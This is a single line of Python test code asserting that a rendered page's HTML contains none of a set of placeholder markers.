    assert [mark for mark in PLACEHOLDERS if mark in page_html] == []
